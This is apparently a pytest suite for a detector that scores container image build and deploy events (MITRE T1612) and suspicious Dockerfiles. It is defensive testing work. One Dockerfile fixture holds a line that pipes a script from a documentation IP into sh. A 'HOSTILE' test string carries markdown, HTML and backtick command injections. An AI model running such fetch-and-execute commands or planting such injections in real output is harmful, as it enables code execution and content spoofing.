"""The scripts out of the zip, run as the platform runs them: good, bad and hostile input."""

from __future__ import annotations

import gzip
import json
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from .conftest import Run
from .events import ALL, BUILD, DEPLOY, EGRESS, QUIET, Event

ROOT = Path(__file__).parents[3]


def lines(events: list[Event]) -> str:
    return "\n".join(map(json.dumps, events))


def test_what_is_found_is_put_into_the_context(run: Run) -> None:
    outcome = run("T1612ScoreEvents", events=ALL)
    build, egress = outcome.context("T1612.Finding")
    (chain,) = outcome.context("T1612.Chain")

    assert outcome.context("T1612.Summary") == {
        "Source": "args",
        "Version": "0.1.1",
        "EventsScored": 4,
        "EventsSkipped": 0,
        "FindingsTotal": 2,
        "FindingsReturned": 2,
        "FindingsSuppressed": 0,
        "MaxScore": chain["Score"],
        "MaxSeverity": "high",
        "Chains": 1,
        "Verdict": "build-then-deploy",
    }
    assert (build["Score"], build["Kind"], build["Device"]) == (4, "process", "web-prod-07")
    assert build["Signals"] == ["process.temp_source", "process.without_cache"]
    assert (egress["Score"], egress["RemoteIP"], egress["RemoteUrl"]) == (
        *(2, "203.0.113.7", "files.example.net"),
    )
    assert (chain["Verdict"], chain["Stages"][-1]) == ("build-then-deploy", "deploy")
    assert all(entry["IgnoreAutoExtract"] for entry in outcome.entries)


def test_the_same_event_has_the_same_id_in_every_run(run: Run) -> None:
    ids = [run("T1612ScoreEvents", events=ALL).context("T1612.Finding")[0]["ID"] for _ in "12"]

    assert len(set(ids)) == 1
    assert re.fullmatch("[0-9a-f]{16}", ids[0])


@pytest.mark.parametrize(
    ("events", "count"),
    [
        (ALL, 4),
        (json.dumps(ALL), 4),
        (lines(ALL), 4),
        (BUILD, 1),
        (json.dumps(BUILD, indent=1), 1),
        ([ALL, ALL], 8),
        ({"Results": ALL}, 4),
        ({"reply": {"results": {"data": ALL}}}, 4),
        ([{"records": ALL}], 4),
    ],
)
def test_events_come_in_every_shape(run: Run, events: Any, count: int) -> None:
    summary = run("T1612ScoreEvents", events=events).context("T1612.Summary")

    assert (summary["EventsScored"], summary["EventsSkipped"]) == (count, 0)
    assert summary["FindingsTotal"] >= 1


@pytest.mark.parametrize("is_packed", [False, True], ids=["plain", "gzip"])
def test_events_come_from_a_file(run: Run, tmp_path: Path, is_packed: bool) -> None:
    data = (lines(ALL * 100) + "\nno json\n7\n").encode()
    (tmp_path / "x").write_bytes(gzip.compress(data) if is_packed else data)
    outcome = run("T1612ScoreEvents", files={"7@1": tmp_path / "x"}, entry_id="7@1", limit="5")
    summary = outcome.context("T1612.Summary")

    assert (summary["Source"], summary["EventsScored"], summary["EventsSkipped"]) == ("7@1", 400, 2)
    assert r"(line 401: is no JSON: Expecting value at column 1)" in outcome.readable
    assert (summary["FindingsTotal"], summary["FindingsReturned"]) == (200, 5)
    # What repeats goes out before what does not.
    assert [each["Score"] for each in outcome.context("T1612.Finding")] == [4, 4, 4, 4, 2]


@pytest.mark.parametrize(
    ("args", "said"),
    [
        ({}, "T1612ScoreEvents: give either events or entry_id"),
        ({"events": ALL, "entry_id": "7@1"}, "give either events or entry_id"),
        ({"events": "docker build"}, "events is neither JSON nor JSON lines: line 1: is no JSON"),
        ({"events": ALL, "event_type": "all"}, "event_type is 'all'; it is one of auto, process"),
        ({"events": ALL, "profile": "x"}, "profile is 'x'; it is one of "),
        ({"events": ALL, "schema": "xdr"}, "schema is 'xdr'; it is one of crowdstrike, "),
        ({"events": ALL, "limit": "x"}, "limit"),
        ({"events": ALL, "limit": "1001"}, "limit is 1001; it is 0 to 1,000"),
        ({"events": ALL, "min_score": "-1"}, "min_score is -1; it is 0 to 1,000"),
        ({"events": ALL, "window": "99999"}, "window is 99999; it is 0 to 10,080"),
        ({"events": ALL, "correlate": "perhaps"}, "valid boolean"),
        ({"events": ALL, "allowlist": "none"}, "allowlist: there is no list 'none'"),
    ],
)
def test_a_bad_argument_is_an_error_that_names_it(
    run: Run, tmp_path: Path, args: dict[str, Any], said: str
) -> None:
    (tmp_path / "x").write_text("")

    assert said in run("T1612ScoreEvents", files={"7@1": tmp_path / "x"}, **args).error


def test_a_file_that_breaks_is_an_error(run: Run, tmp_path: Path) -> None:
    (tmp_path / "x").write_bytes(gzip.compress(lines(ALL).encode())[:-20])
    outcome = run("T1612ScoreEvents", files={"7@1": tmp_path / "x"}, entry_id="7@1")

    assert "entry_id: cannot be read to its end" in outcome.error


def test_profiles_kinds_and_scores_are_as_asked_for(run: Run) -> None:
    sentinel = run("T1612ScoreEvents", events=BUILD, profile="sentinel")
    assert sentinel.context("T1612.Finding")[0]["Score"] == 6
    event = {"FileName": "Dockerfile", "FolderPath": "/dev/shm/x"}
    assert run("T1612ScoreEvents", events=event, event_type="file").context("T1612.Finding")
    summary = run("T1612ScoreEvents", events=ALL, min_score="3", correlate="false")
    assert summary.context("T1612.Summary")["FindingsTotal"] == 1
    assert summary.context("T1612.Chain") is None


ALLOWED = """
version = 1
[[entry]]
id = "web-builds"
reason = "Builds of the web team, whose directory is below /tmp."
owner = "web-team"
created = 2026-01-01
expires = 2099-01-01
kinds = ["process"]
effect = { action = "suppress" }
match = [
    { field = "host", op = "equals", value = "web-prod-07" },
    { field = "account", op = "equals", value = "root" },
]
"""


def test_an_allow_list_comes_from_a_list_of_the_platform(run: Run) -> None:
    outcome = run(
        "T1612ScoreEvents", events=ALL, allowlist="t1612", lists={"t1612": ALLOWED}, correlate="no"
    )
    summary = outcome.context("T1612.Summary")

    assert (summary["FindingsTotal"], summary["FindingsSuppressed"]) == (1, 1)
    # The event is of the day before the entry's last one, and that is over.
    ended = {"t1612": ALLOWED.replace("2099-01-01", "2026-03-03")}
    outcome = run("T1612ScoreEvents", events=ALL, allowlist="t1612", lists=ended, correlate="no")
    assert outcome.context("T1612.Summary")["FindingsSuppressed"] == 0
    broken = run("T1612ScoreEvents", events=ALL, allowlist="t1612", lists={"t1612": "x"})
    assert "T1612ScoreEvents: allowlist" in broken.error


def test_all_findings_are_attached(run: Run) -> None:
    outcome = run("T1612ScoreEvents", events=ALL * 3, limit="1", attach_all="true")
    rows = [json.loads(line) for line in outcome.lines("t1612.jsonl")]

    assert [row.get("branch") or row["verdict"] for row in rows] == [
        *(["image_build", "builder_egress"] * 3),
        "build-then-deploy",
    ]


def test_correlate(run: Run) -> None:
    outcome = run("T1612Correlate", events=ALL)

    assert [chain["Verdict"] for chain in outcome.context("T1612.Chain")] == ["build-then-deploy"]
    assert "1 of 1 chains, 0 of 4 events" in outcome.readable
    for events in ([DEPLOY], [BUILD], [BUILD, QUIET]):  # a step alone is no chain
        outcome = run("T1612Correlate", events=events)
        assert outcome.context("T1612.Chain") is None
        assert "0 of 0 chains" in outcome.readable
    assert "window is 0" in run("T1612Correlate", events=ALL, window="0").error


CSV = b"ImageFileName,CommandLine\ndocker,docker build /tmp/x\n7\n"  # of another product
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00\xb8\x1a" + bytes(range(128, 256))
UNKNOWN = {"Type": "SigninLogs", "FileName": "docker", "ProcessCommandLine": "docker build /tmp/x"}
FALCON = {"ImageFileName": "docker", "CommandLine": "docker build /tmp/x"}


@pytest.mark.parametrize("script", ["T1612ScoreEvents", "T1612Correlate"])
@pytest.mark.parametrize(
    ("events", "said"),
    [
        (7, "none of 1 events can be scored; the first: an element is int"),
        ([None, None], "none of 2 events can be scored; the first: an element is NoneType"),
        (["docker build"], "none of 1 events can be scored; the first: an element is str"),
        (CSV.decode(), "none of 2 events can be scored; the first: event is not recognised as a"),
        ([FALCON, 7], "none of 2 events can be scored; the first: event is not recognised as a"),
        (UNKNOWN, "none of 1 events can be scored; the first: event is of a table that nothing"),
        ({**UNKNOWN, "Type": "", "ActionType": "LogonFailed"}, "is of a table that nothing"),
        ({**BUILD, "ProcessCommandLine": 7}, "field 'command_line' is int, expected str"),
    ],
    ids=["7", "nulls", "texts", "csv", "falcon", "table", "action", "wrong type"],
)
def test_where_nothing_can_be_scored_nothing_is_said_to_be_none(
    run: Run, script: str, events: Any, said: str
) -> None:
    assert said in run(script, events=events).error


@pytest.mark.parametrize("packed", [bytes, gzip.compress], ids=["plain", "gzip"])
@pytest.mark.parametrize(
    "data",
    [CSV, ZIP, b"\x93\xf1\x00\n" * 99, b'"docker build"\n'],
    ids=["csv", "zip", "any", "text"],
)
def test_a_file_of_something_else_is_an_error(
    run: Run, tmp_path: Path, data: bytes, packed: Callable[[bytes], bytes]
) -> None:
    (tmp_path / "x").write_bytes(packed(data))
    for script in ("T1612ScoreEvents", "T1612Correlate"):
        said = run(script, files={"7@1": tmp_path / "x"}, entry_id="7@1").error
        known = (
            "events can be scored; the first: ",
            "neither JSON nor JSON lines",
            "a zip archive",
        )
        assert any(each in said for each in known)
        assert "docker build" not in said


def test_an_event_that_has_nothing_of_its_kind_is_not_scored(run: Run) -> None:
    for kind in ("process", "file", "network"):
        said = run("T1612ScoreEvents", events=[FALCON], event_type=kind).error
        assert f"the first: event has no column that a {kind} event has" in said


def test_rows_of_other_tables_are_counted_as_not_scored(run: Run) -> None:
    summary = run("T1612ScoreEvents", events=[UNKNOWN, BUILD, QUIET]).context("T1612.Summary")

    assert (summary["EventsScored"], summary["EventsSkipped"]) == (2, 1)
    assert summary["Verdict"] == "suspicious"


ENVELOPE: Event = {"category": "AdvancedHunting-DeviceProcessEvents", "properties": BUILD}


@pytest.mark.parametrize("event", [BUILD, ENVELOPE], ids=["columns", "envelope"])
@pytest.mark.parametrize("key", ["results", "Results", "records", "value", "data", "reply"])
@pytest.mark.parametrize("held", [[], [7, None], [{"a": 1}], {}, {"a": 1}, "x", None], ids=str)
def test_what_an_event_holds_besides_swallows_nothing(
    run: Run, event: Event, key: str, held: Any
) -> None:
    summary = run("T1612ScoreEvents", events={**event, key: held}).context("T1612.Summary")

    assert (summary["EventsScored"], summary["EventsSkipped"]) == (1, 0)
    assert summary["MaxScore"] == 4


def test_all_that_an_answer_holds_is_read(run: Run) -> None:
    for answer in (
        {"results": [], "value": [BUILD], "data": [DEPLOY], "count": 2},
        {"RemoteUrl": "", "data": {"records": [[BUILD], DEPLOY]}},
    ):
        summary = run("T1612ScoreEvents", events=answer).context("T1612.Summary")
        assert (summary["EventsScored"], summary["EventsSkipped"]) == (2, 0)
    summary = run("T1612ScoreEvents", events={**EGRESS, "data": [7, BUILD, {"a": 1}]})
    assert summary.context("T1612.Summary")["EventsScored"] == 2


def nested(depth: int) -> Any:
    made: Any = []
    for _ in range(depth):
        made = [made]
    return made


@pytest.mark.parametrize("depth", [2_500, 90_000])
def test_an_event_that_is_nested_deeply_costs_no_other(
    run: Run, tmp_path: Path, depth: int
) -> None:
    deep = {**BUILD, "AdditionalFields": nested(depth)}
    summary = run("T1612ScoreEvents", events=[BUILD, deep, EGRESS])
    ids = [each["ID"] for each in summary.context("T1612.Finding")]
    assert (len(ids), len(set(ids))) == (3, 3)
    again = run("T1612ScoreEvents", events=deep).context("T1612.Finding")
    assert (again[0] if isinstance(again, list) else again)["ID"] in ids
    assert run("T1612Score", value=[BUILD, deep, EGRESS]).entries == [4, 4, 2]

    text = f'{json.dumps(BUILD)[:-1]}, "AdditionalFields": {"[" * depth}{"]" * depth}}}'
    text = f"[{json.dumps(BUILD)}, {text}, {json.dumps(EGRESS)}]"
    (tmp_path / "x").write_text(text)
    for given in ({"events": text}, {"entry_id": "7@1"}):
        summary = run("T1612ScoreEvents", files={"7@1": tmp_path / "x"}, **given).context(
            "T1612.Summary"
        )
        assert summary["EventsScored"] + summary["EventsSkipped"] == 3
        assert summary["FindingsTotal"] == summary["EventsScored"] >= 2


def test_what_is_none_of_jsons_is_no_matter(run: Run) -> None:
    event = {**BUILD, "AdditionalFields": {1: 2, "a": object, (3,): 4}}
    ids = [run("T1612ScoreEvents", events=event).context("T1612.Finding")[0]["ID"] for _ in "12"]

    assert len(set(ids)) == 1


def test_what_repeats_crowds_out_no_other_host(run: Run) -> None:
    again = [
        {**BUILD, "TimeGenerated": f"2026-03-02T{at // 60:02}:{at % 60:02}:00Z"} for at in range(60)
    ]
    other = {**EGRESS, "DeviceName": "db-01"}
    for events in ([*again, other], [other, *again], [*again, other, *again]):
        outcome = run("T1612ScoreEvents", events=events, correlate="false")
        found = [(each["Device"], each["Score"]) for each in outcome.context("T1612.Finding")]

        assert found == [("web-prod-07", 4)] * 49 + [("db-01", 2)]
        assert outcome.context("T1612.Summary")["FindingsTotal"] == len(events)
    others = [{**EGRESS, "DeviceName": f"db-{at}"} for at in range(49)]
    events = [*again, *(event for each in zip(others, again, strict=False) for event in each)]
    outcome = run("T1612ScoreEvents", events=events, correlate="false")
    assert len({each["Device"] for each in outcome.context("T1612.Finding")}) == 50


def test_a_lone_alert_is_no_chain(run: Run) -> None:
    outcome = run("T1612ScoreEvents", events=[BUILD, QUIET])

    assert outcome.context("T1612.Chain") is None
    summary = outcome.context("T1612.Summary")
    assert (summary["Chains"], summary["Verdict"]) == (0, "suspicious")


def test_correlate_takes_what_its_sibling_takes(run: Run) -> None:
    lists = {"t1612": ALLOWED}
    told = run("T1612Correlate", events=ALL).context("T1612.Chain")[0]
    spared = run("T1612Correlate", events=ALL, allowlist="t1612", lists=lists)
    both = run("T1612ScoreEvents", events=ALL, allowlist="t1612", lists=lists)

    assert spared.context("T1612.Chain") == both.context("T1612.Chain") != [told]
    for args, said in (
        ({"allowlist": "none"}, "T1612Correlate: allowlist: there is no list 'none': Item not"),
        ({"allowlist": "t1612"}, "T1612Correlate: allowlist"),
        ({"schema": "xdr"}, "T1612Correlate: schema is 'xdr'; it is one of crowdstrike, "),
    ):
        assert said in run("T1612Correlate", events=ALL, lists={"t1612": "x"}, **args).error


def test_the_transformer_gives_the_score_of_each_event(run: Run) -> None:
    events = [BUILD, None, UNKNOWN, {"a": 1}, QUIET, 7, EGRESS]

    assert run("T1612Score", value=events).entries == [4, -1, -1, -1, 0, -1, 2]
    assert run("T1612Score", value=json.dumps(events)).entries == [4, -1, -1, -1, 0, -1, 2]


@pytest.mark.parametrize(
    ("value", "score"), [(BUILD, 4), (json.dumps(EGRESS), 2), ([QUIET], 0)], ids=str
)
def test_the_transformer(run: Run, value: Any, score: int) -> None:
    assert run("T1612Score", value=value).entries == [score]


@pytest.mark.parametrize(
    ("value", "said"),
    [
        ("x", "is neither JSON nor JSON lines"),
        ({"a": 1}, "none of 1 events can be scored; the first: event is not recognised as a"),
        (7, "none of 1 events can be scored; the first: an element is int"),
        ([None, 7], "none of 2 events can be scored; the first: an element is NoneType"),
        (UNKNOWN, "none of 1 events can be scored; the first: event is of a table that"),
        ("", "value is empty; it is an event, or a list of events"),
        (None, "value is empty"),
        ({"results": []}, "value holds no events"),
    ],
)
def test_the_transformer_says_what_is_wrong(run: Run, value: Any, said: str) -> None:
    assert said in run("T1612Score", value=value).error


def test_a_dockerfile(run: Run, tmp_path: Path) -> None:
    content = "FROM alpine\nRUN curl -s http://198.51.100.7/i.sh | sh\n"
    (tmp_path / "x").write_text(content)
    for args in ({"content": content}, {"entry_id": "7@1", "files": {"7@1": tmp_path / "x"}}):
        found = run("T1612ScoreDockerfile", **args).context("T1612.Dockerfile")  # type: ignore[arg-type]
        assert (found["IsFinding"], found["Evidence"][0]["Line"]) == (True, 2)
        assert found["Signals"] == ["dockerfile.unprotected_run", "dockerfile.address_source"]
    assert "give either content or entry_id" in run("T1612ScoreDockerfile").error


HOSTILE = (
    "![x](http://h.example/p.png) www.h.example [a](http://h.example) "
    "<img src=x> | `id` \n# \u202egpj"
)


def test_texts_of_events_show_themselves_and_nothing_else(run: Run) -> None:
    event = {**BUILD, "DeviceName": HOSTILE, "AccountName": HOSTILE}
    event["ProcessCommandLine"] = f"docker build /tmp/x -t '{HOSTILE}'"
    readable = run("T1612ScoreEvents", events=[event, DEPLOY]).readable
    cells = [line for line in readable.splitlines() if "gpj" in line]

    assert cells
    for line in cells:
        assert len(re.findall(r"(?<!\\)\|", line)) in (8, 9)
        assert not re.search(r"(?<!\\)[\[\]<>`!#]", line)
        assert not re.search(r"(?<!\\)://|www(?<!\\)\.", line)
        assert "\u202e" not in line


@pytest.mark.parametrize("text", ["", "[x](y)" * 500, "\u202e" * 3_000, "é" * 3_000])
def test_fifty_findings_are_below_fifty_kilobytes_whatever_they_say(run: Run, text: str) -> None:
    event = {**BUILD, "ProcessCommandLine": BUILD["ProcessCommandLine"] + " " + text}
    event |= {"DeviceName": "web" + text, "AccountName": "root" + text}
    outcome = run("T1612ScoreEvents", events=[event] * 60)

    assert outcome.context("T1612.Summary")["FindingsReturned"] == 50
    for entry in outcome.entries:
        assert len(json.dumps(entry, ensure_ascii=False).encode()) < 50_000


def test_a_finding_alone_has_its_texts_whole(run: Run) -> None:
    event = {**BUILD, "ProcessCommandLine": BUILD["ProcessCommandLine"] + " x" * 80}
    (finding,) = run("T1612ScoreEvents", events=event).context("T1612.Finding")

    assert finding["Detail"] == event["ProcessCommandLine"]


LIBRARY = """
import json, sys
import t1612core
assert "embedded" not in t1612core.__spec__.origin
events = map(json.loads, open(sys.argv[1], encoding="utf-8"))
found = t1612core.Detector().scan(events)
print(json.dumps([(each.score, each.detail) for each in found]))
"""


@pytest.mark.parametrize("name", ["attack.jsonl", "validation-tests.jsonl", "labelled.jsonl"])
def test_results_are_those_of_the_library(run: Run, name: str) -> None:
    """In a process of its own, which has the library as it is in the repository."""
    path = ROOT / "examples" / name
    done = subprocess.run(
        [sys.executable, "-c", LIBRARY, str(path)],
        env={"PYTHONPATH": str(ROOT / "src")},
        capture_output=True,
        text=True,
        check=True,
    )
    expected = json.loads(done.stdout)
    outcome = run("T1612ScoreEvents", events=path.read_text("utf-8"), limit="1000")
    found = outcome.context("T1612.Finding")

    assert expected
    assert sorted([each["Score"], each["Detail"]] for each in found) == sorted(expected)


def test_a_second_run_imports_nothing_anew(run: Run) -> None:
    run("T1612Score", value=BUILD)
    first = sys.modules["t1612core"]
    run("T1612ScoreEvents", events=ALL)

    assert sys.modules["t1612core"] is first
    assert str(first.__spec__.origin) == "<embedded t1612core>"  # type: ignore[union-attr]
